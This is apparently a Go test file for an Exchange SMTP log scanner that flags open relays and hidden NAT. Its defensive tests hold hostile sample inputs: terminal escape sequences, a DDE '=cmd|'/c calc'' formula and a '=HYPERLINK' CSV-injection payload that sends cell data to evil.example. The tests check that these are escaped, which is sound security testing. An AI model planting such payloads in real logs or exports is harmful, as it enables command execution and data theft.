package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata")

// runCLI runs logscan in-process and returns its exit status and output.
func runCLI(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	io, _, out, errOut := Test()
	code := execute(args, io)
	return code, out.String(), errOut.String()
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		os.WriteFile(path, []byte(got), 0o644)
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test ./cmd/logscan -update creates it)", err)
	}
	if got != string(want) {
		t.Errorf("output differs from %s (go test ./cmd/logscan -update rewrites it):\n--- got\n%s", path, got)
	}
}

// TestScanSample pins the text output on the bundled sample: what the
// README's demo command prints.
func TestScanSample(t *testing.T) {
	code, out, errOut := runCLI(t, "scan", filepath.Join("..", "..", "samples", "contoso"))
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	for _, want := range []string{
		fmt.Sprintf("Files:     %d read as protocol logs, 0 empty, 0 skipped, 0 failed", sampleFiles(t)),
		`EX03\Relay LB EX03`, "10.20.0.5 (", // the load balancer's SNAT address
		`EX02\Anonymous Relay EX02`, "198.51.100.77", // the relaying internet host
		`EX01\Relay Hub EX01`,                // the connector that breaks X-EXPS
		"rows rejected: last line cut short", // the live-cut tails
		// The three findings, with cause and fix.
		"[CRITICAL] Hidden NAT: 10.20.0.5 on EX03's own subnet",
		"[CRITICAL] Everyone behind the hidden NAT address 10.20.0.5 can relay",
		"[HIGH] Public host 198.51.100.77 relays anonymously through EX02\\Anonymous Relay EX02",
		"[HIGH] EX02 (10.20.0.12) -> EX01: 451 5.7.3 Cannot achieve Exchange Server authentication",
		"Set-ReceiveConnector -Identity 'EX01\\Relay Hub EX01' -RemoteIPRanges",
		"Relay inventory", "10.30.5.21 (EHLO SCAN01)",
		"Accepted domains: contoso.co.uk, contoso.com — inferred",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q", want)
		}
	}
	golden(t, "scan-contoso.txt", out)
}

// sampleFiles counts the files of the bundled sample: one Exchange log each,
// the last of each folder cut mid-row (12 folders).
func sampleFiles(t *testing.T) int {
	n, _ := sampleFileKinds(t)
	return n
}

// sampleFileKinds counts the sample's protocol logs and connectivity logs
// (those under a Connectivity folder).
func sampleFileKinds(t *testing.T) (protocol, connectivity int) {
	filepath.WalkDir(filepath.Join("..", "..", "samples", "contoso"), func(p string, d os.DirEntry, err error) error {
		switch {
		case err != nil || d.IsDir():
		case strings.Contains(filepath.ToSlash(p), "/Connectivity/"):
			connectivity++
		default:
			protocol++
		}
		return err
	})
	if protocol == 0 || connectivity == 0 {
		t.Fatalf("samples/contoso holds %d protocol and %d connectivity logs", protocol, connectivity)
	}
	return protocol, connectivity
}

func TestScanJSON(t *testing.T) {
	code, out, _ := runCLI(t, "scan", "--format", "json", filepath.Join("..", "..", "samples", "contoso"))
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	var rep jsonReport
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("not JSON: %v", err)
	}
	if p, c := sampleFileKinds(t); rep.FormatVersion != 1 || rep.Files["parsed"] != p+c || rep.RowsRead != rep.RowsEmitted+rep.RowsRejected || rep.RowsRejected != 12 {
		t.Errorf("format %d, %d files parsed of %d, rows %d read = %d + %d", rep.FormatVersion, rep.Files["parsed"], p+c, rep.RowsRead, rep.RowsEmitted, rep.RowsRejected)
	}
	// 12 protocol logs and 3 connectivity logs end in a row cut by the live
	// writer (the sample is a copy of live servers).
	if len(rep.Problems) != 15 || rep.Problems[0].Severity != "rejected" || rep.Problems[0].Line == 0 {
		t.Errorf("%d problems, first %+v", len(rep.Problems), rep.Problems[0])
	}
	if len(rep.Findings) != 7 || rep.Findings[0].Severity.String() != "critical" || len(rep.RelayProbes) != 2 || len(rep.RelayInventory) != 1 || len(rep.Assumptions) == 0 {
		t.Errorf("%d findings (first %v), %d probes, %d inventory, %d assumptions", len(rep.Findings), rep.Findings[0].Severity, len(rep.RelayProbes), len(rep.RelayInventory), len(rep.Assumptions))
	}
	if !strings.Contains(out, `"severity": "critical"`) || !strings.Contains(out, `"detector": "hidden-snat"`) || rep.SessionCounts.Total == 0 {
		t.Error("JSON lacks severity names, detector names or session counts")
	}
	found := false
	for _, c := range rep.Connectors {
		if c.Name == `EX03\Relay LB EX03` && len(c.TopRemote) > 0 && c.TopRemote[0].Addr == "10.20.0.5" {
			found = true
		}
	}
	if !found {
		t.Error("EX03 relay connector with 10.20.0.5 missing from JSON")
	}
}

func TestExitCodes(t *testing.T) {
	empty := t.TempDir()
	stray := t.TempDir()
	os.WriteFile(filepath.Join(stray, "notes.txt"), []byte("not a log\n"), 0o644)
	tests := []struct {
		name   string
		args   []string
		code   int
		stderr string
	}{
		{"version", []string{"version"}, 0, ""},
		{"no path", []string{"scan"}, 2, "Try: logscan --help"},
		{"bad format", []string{"scan", "--format", "xml", empty}, 2, "valid values are {text|json|csv|html}"},
		{"unknown flag", []string{"scan", "--nope", empty}, 2, "Try: logscan --help"},
		{"missing path", []string{"scan", filepath.Join(empty, "missing")}, 2, "missing: no such file or folder"},
		{"empty folder", []string{"scan", empty}, 2, "no files found"},
		{"only stray files", []string{"scan", stray}, 2, "none of the 1 files"},
		{"real excerpts", []string{"scan", filepath.Join("..", "..", "parser", "testdata", "realdata")}, 0, ""},
		{"no finding at --fail-on critical", []string{"scan", "--fail-on", "critical", filepath.Join("..", "..", "parser", "testdata", "realdata")}, 0, ""},
		{"Microsoft 365 mail refused as relay at --fail-on high", []string{"scan", "--fail-on", "high", filepath.Join("..", "..", "parser", "testdata", "realdata")}, 1, "1 finding(s) at or above high"},
		{"findings at --fail-on high", []string{"scan", "--fail-on", "high", filepath.Join("..", "..", "samples", "contoso")}, 1, "7 finding(s) at or above high"},
		{"findings at --fail-on critical", []string{"scan", "--fail-on", "critical", filepath.Join("..", "..", "samples", "contoso")}, 1, "3 finding(s) at or above critical"},
		{"bad --fail-on", []string{"scan", "--fail-on", "urgent", empty}, 2, "unknown severity"},
		{"bad domain", []string{"scan", "--accepted-domains", "contoso.com,not a domain", empty}, 2, "is not a domain"},
		{"bad server", []string{"scan", "--exchange-servers", "EX09=10.0.0.300", empty}, 2, "NAME=address"},
		{"bad range", []string{"scan", "--internal", "10.0.0.0/33", empty}, 2, "is not an address or CIDR range"},
		{"missing list file", []string{"scan", "--accepted-domains", "@" + filepath.Join(empty, "nope.txt"), empty}, 2, "--accepted-domains"},
		{"bad NAT subnet", []string{"scan", "--nat-subnet-v4", "40", empty}, 2, "--nat-subnet-v4"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, _, errOut := runCLI(t, tt.args...)
			if code != tt.code || !strings.Contains(errOut, tt.stderr) {
				t.Errorf("exit %d, stderr %q; want %d and %q", code, errOut, tt.code, tt.stderr)
			}
		})
	}
}

// TestHostileText: connector names, server names and file names come from
// the logs and the folder; none may reach the terminal as control codes.
func TestHostileText(t *testing.T) {
	dir := t.TempDir()
	log := "#Log-type: SMTP Receive Protocol Log\r\n" +
		"#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context\r\n" +
		"2026-11-02T10:00:01.000Z,EX\x1b]0;pwned\x07\\Evil\x1b[2J\u202eConnector,1,0,10.0.0.1:25,203.0.113.1:5,+,,\r\n" +
		"2026-11-02T10:00:01.000Z,EX01\\Default,2,x,10.0.0.1:25,203.0.113.1:5,+,\x1b[31m,\r\n"
	name := filepath.Join(dir, "RECV\x1b[31m.LOG")
	if err := os.WriteFile(name, []byte(log), 0o644); err != nil {
		t.Skipf("this file system refuses control characters in names: %v", err)
	}
	os.WriteFile(filepath.Join(dir, "stray\x1b[1m.txt"), []byte("x"), 0o644)
	code, out, errOut := runCLI(t, "scan", dir)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	for _, s := range []string{out, errOut} {
		if strings.ContainsAny(s, "\x1b\x07\u202e") {
			t.Errorf("raw control characters reached the output:\n%q", s)
		}
	}
	if !strings.Contains(out, `\x1b[2J`) || !strings.Contains(out, `\u202e`) {
		t.Errorf("hostile connector not shown escaped:\n%s", out)
	}
	_, jout, _ := runCLI(t, "scan", "--format", "json", dir)
	if bytes.ContainsAny([]byte(jout), "\x1b\x07") || !json.Valid([]byte(jout)) {
		t.Errorf("JSON output not escaped or invalid")
	}
}

func TestSafe(t *testing.T) {
	tests := map[string]string{
		"EX01\\Default Frontend EX01": "EX01\\Default Frontend EX01",
		"Zürich Relay":                "Zürich Relay",
		"a\x1b[31mb":                  `a\x1b[31mb`,
		"tab\there":                   `tab\there`,
		"rtl\u202eoverride":           `rtl\u202eoverride`,
		"bad\xffutf8":                 `bad\xffutf8`,
	}
	for in, want := range tests {
		if got := safe(in); got != want {
			t.Errorf("safe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestOrgFlags: list flags take comma lists and @FILE, including the UTF-16
// files Windows PowerShell's Out-File writes, and the report says they were
// given.
func TestOrgFlags(t *testing.T) {
	dir := t.TempDir()
	utf16 := []byte{0xFF, 0xFE}
	for _, r := range "# from Get-AcceptedDomain\r\ncontoso.com\r\n*.contoso.co.uk\r\n" {
		utf16 = append(utf16, byte(r), 0)
	}
	domains := filepath.Join(dir, "domains.txt")
	os.WriteFile(domains, utf16, 0o644)
	code, out, errOut := runCLI(t, "scan", "--accepted-domains", "@"+domains, "--exchange-servers", "EX09=10.9.0.9,10.8.0.0/29",
		"--internal", "10.0.0.0/8", filepath.Join("..", "..", "samples", "contoso"))
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	for _, want := range []string{
		"Accepted domains: contoso.com, *.contoso.co.uk — given (--accepted-domains)",
		"Exchange servers: EX09=10.9.0.9, 10.8.0.0/29 — given",
		"Internal networks: 10.0.0.0/8 — given (--internal)",
		"Findings: 7 (3 critical, 4 high)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q", want)
		}
	}
}

// TestHostileFindings: a relay session whose EHLO name and sender carry
// terminal escapes and a spreadsheet formula reaches the findings; the text
// output shows them escaped, the JSON stays valid.
func TestHostileFindings(t *testing.T) {
	dir := t.TempDir()
	row := func(seq int, ev, data string) string {
		return fmt.Sprintf("2026-11-02T10:00:%02d.000Z,EX01\\Anonymous Relay EX01,08DD000000000001,%d,10.0.0.1:25,198.51.100.7:4000,%s,%s,\r\n", seq, seq, ev, data)
	}
	log := "#Log-type: SMTP Receive Protocol Log\r\n" +
		"#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context\r\n" +
		row(0, "+", "") +
		"2026-11-02T10:00:01.000Z,EX01\\Anonymous Relay EX01,08DD000000000001,1,10.0.0.1:25,198.51.100.7:4000,*,SMTPSubmit SMTPAcceptAnyRecipient,Set Session Permissions\r\n" +
		row(2, ">", "220 EX01.contoso.com ready") +
		row(3, "<", "EHLO \x1b]0;owned\x07\x1b[2J") +
		row(4, ">", "250 EX01.contoso.com Hello") +
		row(5, "<", "MAIL FROM:<=cmd|'/c calc'!A1\x1b[31m@evil.example>") +
		row(6, "<", "RCPT TO:<victim@\x1b[1mgmail.com>") +
		row(7, ">", "250 2.1.0 Sender OK") +
		row(8, ">", "250 2.1.5 Recipient OK") +
		row(9, "-", "")
	os.WriteFile(filepath.Join(dir, "RECV2026110210-1.LOG"), []byte(log), 0o644)
	code, out, errOut := runCLI(t, "scan", dir)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	if !strings.Contains(out, "relays anonymously") {
		t.Fatalf("no relay finding:\n%s", out)
	}
	if strings.ContainsAny(out, "\x1b\x07") {
		t.Errorf("raw control characters reached the terminal:\n%q", out)
	}
	if !strings.Contains(out, `\x1b]0;owned\a\x1b[2J`) {
		t.Errorf("hostile EHLO not shown escaped:\n%s", out)
	}
	_, jout, _ := runCLI(t, "scan", "--format", "json", dir)
	if !json.Valid([]byte(jout)) || strings.ContainsAny(jout, "\x1b\x07") {
		t.Error("JSON invalid or carries raw control characters")
	}
}

func TestCSVCell(t *testing.T) {
	tests := map[string]string{
		"EX01":                       "EX01",
		"=cmd|' /C calc'!A0":         "'=cmd|' /C calc'!A0",
		"+1+1":                       "'+1+1",
		"-2+3":                       "'-2+3",
		"@SUM(A1)":                   "'@SUM(A1)",
		"\t=1":                       `\x09=1`, // controls are shown escaped, so no longer a formula
		"\r=1":                       `\x0d=1`,
		"  =1":                       "'  =1",
		"a=1":                        "a=1",
		"bad\xff":                    "bad\uFFFD",
		"":                           "",
		`EX01\Default Frontend EX01`: `EX01\Default Frontend EX01`,
	}
	for in, want := range tests {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVInjection: a log whose connector-id, EHLO name and sender are
// spreadsheet formulas yields a CSV in which no cell starts as one.
func TestCSVInjection(t *testing.T) {
	dir := t.TempDir()
	conn := `=HYPERLINK("http://evil.example/?"&A1)\@Relay`
	quoted := `"` + strings.ReplaceAll(conn, `"`, `""`) + `"` // as Exchange quotes a field
	row := func(seq int, ev, data, ctx string) string {
		return fmt.Sprintf("2026-11-02T10:00:%02d.000Z,%s,08DD000000000001,%d,10.0.0.1:25,198.51.100.7:4000,%s,%s,%s\r\n", seq, quoted, seq, ev, data, ctx)
	}
	log := "#Log-type: SMTP Receive Protocol Log\r\n" +
		"#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context\r\n" +
		row(0, "+", "", "") + row(1, "*", "SMTPSubmit SMTPAcceptAnyRecipient", "Set Session Permissions") +
		row(2, ">", "220 x", "") + row(3, "<", "EHLO =1+1", "") + row(4, ">", "250 x", "") +
		row(5, "<", "MAIL FROM:<-2+3@evil.example>", "") + row(6, "<", "RCPT TO:<a@gmail.com>", "") +
		row(7, ">", "250 2.1.0 Sender OK", "") + row(8, ">", "250 2.1.5 Recipient OK", "") + row(9, "-", "", "")
	os.WriteFile(filepath.Join(dir, "RECV2026110210-1.LOG"), []byte(log), 0o644)
	code, out, errOut := runCLI(t, "scan", "--format", "csv", dir)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, out)
	}
	if len(recs) != 2 || recs[1][0] != "finding" || recs[1][4] != `'=HYPERLINK("http://evil.example/?"&A1)` {
		t.Fatalf("want one finding with the server cell neutralised, got %q", recs)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell starts as a formula: %q", cell)
			}
		}
	}
	if !strings.Contains(out, "-2+3@evil.example") || !strings.Contains(out, "EHLO names, by sessions: =1+1") {
		t.Errorf("hostile values should still be shown, as text:\n%s", out)
	}
}
